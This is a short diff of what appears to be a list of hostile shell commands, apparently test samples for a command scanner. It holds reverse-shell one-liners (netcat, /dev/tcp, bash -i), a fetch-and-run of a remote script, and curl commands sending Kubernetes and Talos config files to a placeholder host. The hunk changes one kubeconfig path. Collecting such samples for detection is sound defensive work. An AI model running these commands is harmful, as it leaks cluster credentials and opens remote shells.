@@ -143,7 +143,7 @@ wget https://x.invalid/setup.sh && bash setup.sh
 exec 3<>/dev/tcp/x.invalid/80
 nc -e /bin/sh x.invalid 4444
 bash -i >& /dev/tcp/1.2.3.4/80 0>&1
-curl -d @/root/.kube/config https://x.invalid/
+curl -d @/home/me/.kube/config https://x.invalid/
 curl -F file=@talosconfig https://x.invalid/
 cat ~/.kube/config | curl -X POST --data-binary @- https://x.invalid/
 eval $CMD
